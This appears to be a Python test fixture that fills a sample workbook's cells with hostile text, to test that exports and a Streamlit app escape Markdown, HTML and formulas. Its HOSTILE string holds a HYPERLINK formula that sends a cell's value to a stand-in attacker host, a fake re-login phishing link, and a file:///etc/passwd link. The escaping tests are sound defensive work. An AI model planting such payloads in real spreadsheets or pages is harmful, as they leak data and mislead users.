"""Hostile workbooks: conftest's hand-computed 2021 workbook with what a sheet editor could type
in every free-text and code cell (Markdown, HTML, formulas, file references, …), for the escaping
tests of the exports and the app.

``record_hostile_history`` stores two such workbooks whose free text differs (and a status and an
hour row) as two snapshots around Weekoverleg's default week, so "Wat veranderde" and its deletion
alarms show the hostile text too.

Codes are replaced consistently (every 'DP1' in every tab becomes the same hostile code), so all
references still resolve and every page and download has rows to show. Status, Aggregatie and Rol
keep their fixed words, a Personeel budget line stays Personeel, and the Gebruikers e-mails stay
addresses: otherwise the rows would only be validation errors.
"""
from __future__ import annotations

import datetime as dt
import os
import re
from collections.abc import Callable

from baz_data.model import build_dataset
from baz_data.parsing import normalize_code
from baz_data.schema import CODE, TABLES, TEXT
from baz_data.sources import RawWorkbook, SourceInfo
from tests.conftest import base_tabs

# Every attack of issue 9 in one string: it starts with '=' (a formula in Excel), holds Markdown
# images and links, bare URLs, HTML, Streamlit directives, LaTeX and reportlab tags.
HOSTILE = ('=HYPERLINK("https://evil.example/?x="&A1,"Klik") ![x](https://evil.example/x.png) '
           '[Klik hier om opnieuw aan te melden](https://evil.example/login) '
           '<img src="https://evil.example/y.png"> <a href="file:///etc/passwd">p</a> '
           'www.evil.example iemand@evil.example :red[rood] :material/warning: $x^2$')



def examples(n: int) -> int:
    """Hypothesis examples for a test: ``n`` in CI, more with BAZ_FUZZ_SCALE=10 (README)."""
    return n * max(1, int(os.environ.get("BAZ_FUZZ_SCALE", "1")))


FIXED_CODES = {("Acties", "Status"), ("Indicatoren", "Aggregatie"), ("Gebruikers", "Rol"),
               ("Gebruikers", "E-mail")}


def text_cells() -> dict[str, list[str]]:
    """Per tab the free-text columns a sheet editor fills in (Post only where not Personeel)."""
    return {tab: [c.name for c in table.columns if c.kind == TEXT] for tab, table in TABLES.items()}


def code_cells() -> dict[str, list[str]]:
    return {tab: [c.name for c in table.columns if c.kind == CODE and (tab, c.name) not in FIXED_CODES]
            for tab, table in TABLES.items()}


def hostile_tabs(text: Callable[[str, str, object], str] | str = HOSTILE,
                 code: Callable[[str], str] | str = HOSTILE) -> dict[str, list[list]]:
    """The base workbook with ``text(tab, column, old)`` in every free-text cell and
    ``code(old) + old`` for every code (a str is used as is / as the prefix)."""
    text_of = text if callable(text) else (lambda tab, column, old: text)
    prefix_of = code if callable(code) else (lambda old: code)
    codes: dict[str, str] = {}

    def new_code(old):
        if old is None:
            return None
        key = normalize_code(old)
        if key not in codes:
            codes[key] = f"{prefix_of(str(old))}{old}"
        return codes[key]

    tabs = base_tabs()
    texts, refs = text_cells(), code_cells()
    for tab, rows in tabs.items():
        header = rows[0]
        for row in rows[1:]:
            for i, column in enumerate(header):
                if column in refs.get(tab, []):
                    row[i] = new_code(row[i])
                elif column in texts.get(tab, []):
                    if column == "Post" and row[i] == "Personeel":
                        continue
                    row[i] = text_of(tab, column, row[i])
    return tabs


def hostile_raw(title: str = HOSTILE, **changes) -> RawWorkbook:
    """The hostile workbook as the source reads it; ``title`` is the spreadsheet's own title."""
    info = SourceInfo("gsheets", title, dt.datetime(2021, 7, 1, 14, 2))
    return RawWorkbook(hostile_tabs(**changes), info)


def hostile_dataset(title: str = HOSTILE, **changes):
    """The hostile workbook as the app reads it."""
    return build_dataset(hostile_raw(title, **changes))


# -- hostile text that changes between two stored states ("Wat veranderde", the alarms) ---------
# Weekoverleg's default week of the base workbook's year: the 7 days up to the peildatum
# 31/12/2021. The old state is stored before it, the new one in it.
OLD_TAKEN, NEW_TAKEN = dt.datetime(2021, 12, 20, 12), dt.datetime(2021, 12, 28, 12)


def hostile_change(old: RawWorkbook, new: RawWorkbook) -> RawWorkbook:
    """``new`` with what a week of editing adds to the free text already changed: the first
    action's status moved on, and an hour row of 27/12/2021 (a copy of the first one, so its
    codes are the hostile ones). Every free text differs between ``old`` and ``new``, so every
    hour row of 2021 (an earlier quarter) is "removed and added": an alarm per partner, whose
    code is hostile."""
    tabs = {tab: [list(r) for r in rows] for tab, rows in new.tabs.items()}
    acties = tabs["Acties"]
    status = acties[0].index("Status")
    acties[1][status] = "Uitgesteld" if acties[1][status] != "Uitgesteld" else "Lopend"
    uren = tabs["Uren"]
    extra = list(uren[1])
    extra[uren[0].index("Datum")] = dt.date(2021, 12, 27)
    uren.append(extra)
    return RawWorkbook(tabs, new.info)


def record_hostile_history(url: str, old: RawWorkbook, new: RawWorkbook) -> None:
    """Store ``old`` before Weekoverleg's default week and hostile_change(old, new) in it."""
    from baz_data.history.store import HistoryStore

    store = HistoryStore(url)
    store.record(old, OLD_TAKEN)
    store.record(hostile_change(old, new), NEW_TAKEN)
    store.engine.dispose()


# -- what counts as live markup in a Markdown body ------------------------------------------------
_ESCAPED = re.compile(r"\\[!-/:-@\[-`{-~]")
# Structures that need an unescaped character ...
_STRUCTURE = [("link or image", re.compile(r"\]\(|\]\[")), ("HTML", re.compile(r"<[A-Za-z/!?]")),
              ("entity", re.compile(r"&(#\d+|#x[0-9a-f]+|[a-z]+);", re.IGNORECASE)),
              ("LaTeX", re.compile(r"\$")),
              ("directive", re.compile(r":[a-z][\w-]*\[|:material/", re.IGNORECASE)),
              ("autolink <…>", re.compile(r"<[a-z]+:", re.IGNORECASE))]
# ... and what Streamlit's GFM autolinks in the text after the escapes are resolved.
_AUTOLINK = [("URL", re.compile(r"https?://|www\.", re.IGNORECASE)),
             ("e-mail", re.compile(r"[-.\w+]+@[-\w]+\.[-\w]"))]


def live_markup(body: str) -> list[str]:
    """The kinds of live markup in a Markdown body: [] when it only holds plain text (and the
    app's own bold and headings)."""
    plain = _ESCAPED.sub("\x00", body)
    resolved = _ESCAPED.sub(lambda m: m.group(0)[1], body)
    return ([name for name, pattern in _STRUCTURE if pattern.search(plain)]
            + [name for name, pattern in _AUTOLINK if pattern.search(resolved)])
